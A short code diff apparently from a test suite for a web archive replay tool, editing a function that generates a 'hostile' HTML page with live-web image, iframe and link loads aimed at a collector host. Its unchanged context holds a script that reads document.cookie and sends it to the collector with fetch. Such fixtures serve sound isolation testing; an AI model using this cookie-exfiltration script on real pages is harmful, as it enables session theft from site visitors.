@@ -74,7 +74,9 @@ def hostile_html(collector: str, archived_home: str) -> bytes:
 <p>Body text of the hostile page.</p>
 <p><img alt="" src="{collector}/live-image.png"></p>
 <iframe src="{collector}/live-frame"></iframe>
-<iframe id="from-archive" src="/demo/2id_/{archived_home}"></iframe>
+<iframe id="from-archive" src="{archived_home}"></iframe>
+<p><a id="to-live" href="{collector}/clicked">a link to the live web</a>
+<a id="to-home" href="{archived_home}">the outlet's home page</a></p>
 <script>
 var stolen = document.cookie;
 fetch("{collector}/cookie?c=" + encodeURIComponent(stolen), {{mode: "no-cors"}}).catch(function () {{}});
